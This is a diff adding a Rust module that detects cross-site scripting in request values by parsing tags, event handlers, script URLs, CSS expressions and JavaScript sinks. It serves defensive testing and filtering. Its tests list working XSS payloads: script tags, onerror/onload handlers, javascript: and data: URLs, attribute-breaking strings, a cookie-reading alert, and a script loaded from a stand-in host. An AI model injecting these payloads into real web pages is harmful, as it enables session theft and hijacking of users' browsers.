@@ -1,0 +1,433 @@
+//! Cross-site scripting detection on top of a small HTML/JS-aware tokenizer (`html`):
+//! start tags with their attributes are parsed the way browsers tolerate them (`/` as a
+//! separator, unquoted values, unterminated tags), then judged: script-capable tags
+//! (`script`, `iframe`, `object`, `embed`, `base`, `meta refresh`...), event handler
+//! attributes (`on*=`, also after attribute breaking `" onmouseover=`), script URLs
+//! (`javascript:`, `vbscript:`, `data:text/html`...) in any attribute or as the whole value,
+//! CSS expressions, SVG/MathML, and JavaScript sinks (`alert(`, `eval(`, `document.cookie`,
+//! `String.fromCharCode(`, backtick calls) including in template/attribute breaking
+//! (`'-alert(1)-'`, `</script><script>`). Encoded and obfuscated forms reach it through the
+//! decoders (entities, escapes, control characters).
+
+pub mod html;
+
+use super::{Hit, Value};
+
+const CLASS: &str = "xss";
+
+/// Tags that run script or load active content by themselves.
+const ACTIVE_TAGS: &[&str] = &["script", "iframe", "frame", "frameset", "object", "embed", "applet", "isindex", "vmlframe", "xss", "import", "portal", "fencedframe", "layer", "ilayer"];
+/// Tags that are dangerous with the right attributes or content.
+const RISKY_TAGS: &[&str] = &["svg", "math", "base", "meta", "link", "form", "style", "template", "xml", "bgsound", "layer", "ilayer", "animate", "set", "handler", "listener"];
+/// Attributes that take a URL a browser may navigate to or load.
+const URL_ATTRS: &[&str] = &[
+    "href", "src", "action", "formaction", "data", "xlink:href", "background", "dynsrc", "lowsrc", "poster", "code", "codebase",
+    "to", "from", "values", "by", "content", "srcset", "icon", "manifest", "longdesc", "profile", "usemap", "cite", "classid",
+    "ping", "archive", "folder", "datasrc", "xmlns", "location", "url",
+];
+
+/// Scans one value for XSS.
+pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
+    let t = v.text;
+    let b = t.as_bytes();
+    if t.len() < 3 || !b.iter().any(|c| matches!(c, b'<' | b':' | b'(' | b'`' | b'=' | b'.' | b'[')) {
+        return;
+    }
+    let lower = t.to_ascii_lowercase();
+    let mut hits: Vec<Hit> = Vec::new();
+    if b.contains(&b'<') {
+        tags(&lower, &mut hits);
+        for (pi, score) in [("<?import", 5u32), ("<?xml-stylesheet", 4)] {
+            if let Some(p) = lower.find(pi) {
+                add(&mut hits, "xss.processing-instruction", score, 1, sub(&lower, p, p + 60));
+            }
+        }
+    }
+    urls(&lower, &mut hits);
+    attribute_break(&lower, &mut hits);
+    js(&lower, &mut hits);
+    css(&lower, &mut hits);
+    for h in hits {
+        if !out.iter().any(|o| o.rule == h.rule) {
+            out.push(h);
+        }
+    }
+}
+
+fn add(hits: &mut Vec<Hit>, rule: &'static str, score: u32, paranoia: u8, evidence: &str) {
+    match hits.iter_mut().find(|h| h.rule == rule) {
+        Some(h) => {
+            if score > h.score {
+                h.score = score;
+                h.evidence = clip(evidence);
+            }
+        }
+        None => hits.push(Hit { rule, class: CLASS, score, paranoia, evidence: clip(evidence) }),
+    }
+}
+
+fn clip(s: &str) -> String {
+    s.chars().take(120).collect()
+}
+
+fn sub(s: &str, a: usize, b: usize) -> &str {
+    s.get(a..b.min(s.len())).unwrap_or("")
+}
+
+/// Removes what browsers ignore inside a URL scheme: whitespace, controls, quotes at the start.
+fn scheme_view(v: &str) -> String {
+    v.chars().filter(|c| !c.is_whitespace() && !c.is_control()).take(40).collect::<String>()
+}
+
+/// The script-capable URL scheme `v` starts with, if any.
+fn script_scheme(v: &str) -> Option<&'static str> {
+    let s = scheme_view(v);
+    let s = s.trim_start_matches(['"', '\'', '`']);
+    for p in ["javascript:", "vbscript:", "livescript:", "mocha:", "jscript:"] {
+        if s.starts_with(p) {
+            return Some(p);
+        }
+    }
+    if s.starts_with("data:") {
+        let media = s.trim_start_matches("data:");
+        for m in ["text/html", "image/svg", "application/xhtml", "application/x-javascript", "text/javascript", "application/javascript", "text/xml", "application/xml", "text/x-scriptlet"] {
+            if media.starts_with(m) {
+                return Some("data:");
+            }
+        }
+    }
+    None
+}
+
+fn tags(lower: &str, hits: &mut Vec<Hit>) {
+    let mut count = 0;
+    for tag in html::Tags::new(lower) {
+        count += 1;
+        if count > 256 {
+            break;
+        }
+        let ev = sub(lower, tag.start, tag.end);
+        // Namespaced names (`<x:script xmlns:x=…>`, `<svg:svg>`) act as the local name.
+        let name = tag.name.rsplit(':').next().unwrap_or(tag.name);
+        if tag.closing {
+            if matches!(name, "script" | "style" | "title" | "textarea" | "noscript" | "iframe" | "xmp" | "template" | "noembed" | "plaintext") {
+                add(hits, "xss.context-close", 3, 1, ev);
+            }
+            continue;
+        }
+        if ACTIVE_TAGS.contains(&name) {
+            add(hits, "xss.active-tag", 5, 1, ev);
+        } else if RISKY_TAGS.contains(&name) {
+            let score = match name {
+                "base" if tag.attrs.iter().any(|a| a.name == "href") => 5,
+                "meta" if tag.attrs.iter().any(|a| a.name == "http-equiv") && tag.attrs.iter().any(|a| a.value.contains("url=") || a.value.contains("script")) => 5,
+                "link" if tag.attrs.iter().any(|a| a.name == "href") && tag.attrs.iter().any(|a| a.value.contains("import") || a.value.contains("stylesheet")) => 5,
+                "xml" if tag.attrs.iter().any(|a| a.name == "src") => 5,
+                "form" if tag.attrs.iter().any(|a| a.name == "action") => 3,
+                "svg" | "math" | "style" | "xml" | "template" => 3,
+                _ => 2,
+            };
+            add(hits, "xss.risky-tag", score, 1, ev);
+        } else if tag.attrs.is_empty() && !tag.closed {
+            // `<word` without `>` or attributes: likely text (`a <b`), PL2 signal only.
+            add(hits, "xss.html-tag", 1, 3, ev);
+        } else {
+            add(hits, "xss.html-tag", 2, 2, ev);
+        }
+        for a in &tag.attrs {
+            if html::is_event_handler(a.name) && a.has_value {
+                add(hits, "xss.event-handler", 5, 1, ev);
+            }
+            if (URL_ATTRS.contains(&a.name) || a.name.ends_with(":href")) && script_scheme(a.value).is_some() {
+                add(hits, "xss.script-url", 5, 1, ev);
+            }
+            if a.name == "srcdoc" && a.value.contains('<') {
+                add(hits, "xss.script-url", 5, 1, ev);
+            }
+            if a.name == "style" && css_dangerous(a.value) {
+                add(hits, "xss.css-expression", 5, 1, ev);
+            }
+            if a.name == "dataformatas" && a.value.contains("html") {
+                add(hits, "xss.data-binding", 5, 1, ev);
+            }
+            if a.name == "attributename" && (a.value.contains("href") || a.value.starts_with("on")) {
+                add(hits, "xss.svg-animate", 5, 1, ev);
+            }
+        }
+    }
+}
+
+/// Script URLs where a value would become a URL: the whole value, or after `=`, `(`, a
+/// quote (attribute or CSS context) inside it.
+fn urls(lower: &str, hits: &mut Vec<Hit>) {
+    let b = lower.as_bytes();
+    for needle in ["script:", "data:"] {
+        for pos in memchr::memmem::find_iter(b, needle.as_bytes()).take(16) {
+            // Walk back to the scheme start.
+            let mut s = pos;
+            while s > 0 && b.get(s - 1).is_some_and(|c| c.is_ascii_alphabetic()) {
+                s -= 1;
+            }
+            let Some(scheme) = script_scheme(sub(lower, s, lower.len())) else { continue };
+            let before = lower.get(..s).unwrap_or("").trim_end();
+            let at_start = before.trim_start_matches(['"', '\'', '`', ' ']).is_empty();
+            let after_sep = before.ends_with(['=', '(', '"', '\'', '`', '>', ',', ';']) || before.ends_with("url") || before.ends_with(':');
+            let rest = sub(lower, pos + needle.len(), lower.len());
+            let codeish = rest.contains(['(', '`', '=', '\'', '"', ';', '/', '&', '[', '%', '<', '{']);
+            let score = if (at_start || after_sep) && (codeish || scheme == "data:") {
+                5
+            } else if at_start || after_sep {
+                3
+            } else {
+                2
+            };
+            add(hits, "xss.script-url", score, 1, sub(lower, s, pos + needle.len() + 40));
+        }
+    }
+}
+
+/// Attribute breaking: a quote (or `>` of a tag being closed) followed by an event handler
+/// attribute, e.g. `" onmouseover="alert(1)`, `' autofocus onfocus=alert(1) '`.
+fn attribute_break(lower: &str, hits: &mut Vec<Hit>) {
+    let b = lower.as_bytes();
+    for pos in memchr::memmem::find_iter(b, b"on").take(64) {
+        // Must start a word.
+        if pos > 0 && b.get(pos - 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-') {
+            continue;
+        }
+        let mut e = pos + 2;
+        while b.get(e).is_some_and(u8::is_ascii_alphabetic) {
+            e += 1;
+        }
+        let name = sub(lower, pos, e);
+        if name.len() < 5 || !html::is_known_handler(name) {
+            continue;
+        }
+        let mut k = e;
+        while b.get(k).is_some_and(|c| c.is_ascii_whitespace()) {
+            k += 1;
+        }
+        if b.get(k) != Some(&b'=') {
+            continue;
+        }
+        // What precedes the handler: separators, then a quote that closed the attribute.
+        let mut p = pos;
+        while p > 0 && b.get(p - 1).is_some_and(|c| c.is_ascii_whitespace() || *c == b'/' || *c == b'+') {
+            p -= 1;
+        }
+        let prev = if p > 0 { b.get(p - 1).copied() } else { None };
+        let broke = matches!(prev, Some(b'"' | b'\'' | b'`')) || lower.get(..p).is_some_and(|x| x.contains(['"', '\'']));
+        let value = sub(lower, k + 1, k + 80);
+        let codeish = value.contains(['(', '`', '=']) || value.contains("javascript") || value.contains("location") || value.contains("alert");
+        let at_start = lower.get(..p).is_some_and(|x| x.trim().is_empty());
+        let score = if (broke || at_start) && codeish {
+            5
+        } else if broke || (p < pos && codeish) {
+            4
+        } else if codeish {
+            3
+        } else {
+            2
+        };
+        add(hits, "xss.attribute-break", score, 1, sub(lower, p.saturating_sub(1), k + 40));
+    }
+}
+
+/// JavaScript sinks and calls used to prove or exploit XSS.
+fn js(lower: &str, hits: &mut Vec<Hit>) {
+    let b = lower.as_bytes();
+    for (name, score) in [("alert", 5u32), ("prompt", 5), ("confirm", 5), ("eval", 5), ("settimeout", 4), ("setinterval", 4), ("fromcharcode", 5), ("atob", 3), ("execscript", 5), ("msgbox", 4), ("import", 2), ("fetch", 2)] {
+        for pos in memchr::memmem::find_iter(b, name.as_bytes()).take(16) {
+            let word_start = pos == 0 || !b.get(pos - 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'$');
+            if !word_start && name != "fromcharcode" {
+                continue;
+            }
+            let mut e = pos + name.len();
+            // `alert (1)`, `alert/**/(1)`, `alert\`1\``
+            while b.get(e).is_some_and(|c| c.is_ascii_whitespace()) {
+                e += 1;
+            }
+            if lower.get(e..).is_some_and(|r| r.starts_with("/*")) {
+                if let Some(c) = crate::decode::find_from(b, e + 2, b"*/") {
+                    e = c + 2;
+                }
+            }
+            // `(alert)(1)`, `alert.call(null,1)`, `alert.apply(…)`
+            let mut call = matches!(b.get(e), Some(b'(' | b'`'));
+            if !call {
+                let rest = sub(lower, e, e + 8);
+                if rest.starts_with(")(") {
+                    e += 1;
+                    call = true;
+                } else if let Some(m) = [".call(", ".apply(", ".bind("].iter().find(|m| rest.starts_with(**m)) {
+                    e += m.len() - 1;
+                    call = true;
+                }
+            }
+            if !call {
+                continue;
+            }
+            let args = sub(lower, e + 1, e + 64);
+            // `alert(1)`, `alert(document.domain)`, `alert\`1\``: a call with an argument
+            // list that closes, or a tagged template.
+            let closes = b.get(e) == Some(&b'`') || args.contains(')');
+            let s = if closes { score } else { score.saturating_sub(2) };
+            if s > 0 {
+                let (rule, pl) = if s >= 3 { ("xss.js-sink-call", 1) } else { ("xss.js-call", 2) };
+                add(hits, rule, s, pl, sub(lower, pos, e + 20));
+            }
+        }
+    }
+    for (needle, score) in [
+        ("document.cookie", 5u32),
+        ("document.write", 4),
+        ("document.domain", 4),
+        ("document.location", 4),
+        ("window.location", 3),
+        ("location.href", 3),
+        (".innerhtml", 3),
+        (".outerhtml", 3),
+        ("constructor.constructor", 5),
+        ("constructor(", 3),
+        ("createelement(", 3),
+        ("window[", 3),
+        ("top[", 3),
+        ("self[", 3),
+        ("parent[", 3),
+        ("globalthis[", 3),
+        ("localstorage", 2),
+        ("document.body", 2),
+    ] {
+        if let Some(pos) = memchr::memmem::find(b, needle.as_bytes()) {
+            add(hits, "xss.js-sink", score, 1, sub(lower, pos, pos + needle.len() + 20));
+        }
+    }
+    // Indirect calls through a global object: `top['al'+'ert'](1)`, `self[...](…)`.
+    for obj in ["top", "self", "window", "parent", "frames", "globalthis", "this", "content", "opener"] {
+        for pos in memchr::memmem::find_iter(b, obj.as_bytes()).take(8) {
+            if pos > 0 && b.get(pos - 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'.') {
+                continue;
+            }
+            let rest = sub(lower, pos + obj.len(), pos + obj.len() + 200);
+            let rest_t = rest.trim_start_matches(['?', '.']);
+            if rest_t.starts_with('[') && rest.contains("](") {
+                add(hits, "xss.js-indirect-call", 5, 1, sub(lower, pos, pos + 60));
+            }
+        }
+    }
+    // String breaking into code: `'-alert(1)-'`, `";alert(1)//`, `'};x()//`.
+    for pos in memchr::memchr2_iter(b'\'', b'"', b).take(32) {
+        let rest = sub(lower, pos + 1, pos + 8);
+        let mut it = rest.chars().skip_while(|c| c.is_whitespace());
+        let op = it.next();
+        if matches!(op, Some('-' | '+' | ';' | '}' | ')' | '*' | '|' | '&' | ',')) {
+            let tail = sub(lower, pos + 1, lower.len());
+            if hits.iter().any(|h| h.rule == "xss.js-sink-call") && tail.contains('(') {
+                add(hits, "xss.js-string-break", 3, 1, sub(lower, pos, pos + 40));
+                break;
+            }
+        }
+    }
+}
+
+fn css_dangerous(v: &str) -> bool {
+    let s = scheme_view(v);
+    s.contains("expression(") || s.contains("-moz-binding") || s.contains("behavior:url") || s.contains("url(javascript") || s.contains("url(\"javascript") || s.contains("url('javascript")
+}
+
+/// CSS-based script execution (legacy IE/Firefox): `expression(...)`, `-moz-binding`,
+/// `behavior: url(...)`, `@import` of a script URL.
+fn css(lower: &str, hits: &mut Vec<Hit>) {
+    if !lower.contains(['(', ':']) {
+        return;
+    }
+    let s = scheme_view(lower);
+    if let Some(p) = s.find("expression(") {
+        let before = s.get(..p).unwrap_or("");
+        if before.ends_with([':', '=', '{', ';', '"', '\'']) || before.is_empty() {
+            add(hits, "xss.css-expression", 5, 1, sub(&s, p, p + 40));
+        }
+    }
+    for needle in ["-moz-binding:", "behavior:url("] {
+        if let Some(p) = s.find(needle) {
+            add(hits, "xss.css-expression", 5, 1, sub(&s, p, p + 40));
+        }
+    }
+    if let Some(p) = s.find("@import") {
+        add(hits, "xss.css-import", 3, 1, sub(&s, p, p + 40));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::Part;
+    use super::*;
+
+    fn score(s: &str) -> u32 {
+        let mut out = Vec::new();
+        scan(&Value { part: Part::QueryValue, name: "q", text: s }, &mut out);
+        out.iter().filter(|h| h.paranoia <= 1).map(|h| h.score).sum()
+    }
+
+    fn rules(s: &str) -> Vec<&'static str> {
+        let mut out = Vec::new();
+        scan(&Value { part: Part::QueryValue, name: "q", text: s }, &mut out);
+        out.iter().map(|h| h.rule).collect()
+    }
+
+    #[test]
+    fn attacks() {
+        for p in [
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+            "<iframe src=\"javascript:alert(1)\">",
+            "<a href=\"javascript:alert(document.cookie)\">x</a>",
+            "<a href=\" javascript:alert(1)\">",
+            "\" onmouseover=\"alert(1)",
+            "' autofocus onfocus=alert(1) x='",
+            "\"><script>alert(1)</script>",
+            "'-alert(1)-'",
+            "\";alert(String.fromCharCode(88,83,83))//",
+            "</script><script>alert(1)</script>",
+            "javascript:alert(1)",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "<div style=\"width: expression(alert(1))\">",
+            "<body onload=alert`1`>",
+            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+            "<object data=\"data:text/html,<script>alert(1)</script>\">",
+            "<base href=\"javascript:alert(1)//\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+            "<details open ontoggle=confirm(1)>",
+            "<x onclick=alert(1)>click",
+            "vbscript:msgbox(1)",
+            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+            "<input onfocus=alert(1) autofocus>",
+        ] {
+            assert!(score(p) >= 5, "{p}: {:?}", rules(p));
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for p in [
+            "a < b and c > d",
+            "x<3 love",
+            "<b>bold</b> text",
+            "see https://example.com/a?b=c",
+            "Learn JavaScript: the good parts",
+            "meeting on=Monday",
+            "email: john@example.com",
+            "price (USD) = 5.00",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+            "{\"confirm\": true}",
+            "Please confirm your order",
+            "data: 12, 13",
+            "<p>Hello, <i>world</i></p>",
+        ] {
+            assert!(score(p) < 5, "{p}: {:?}", rules(p));
+        }
+    }
+}
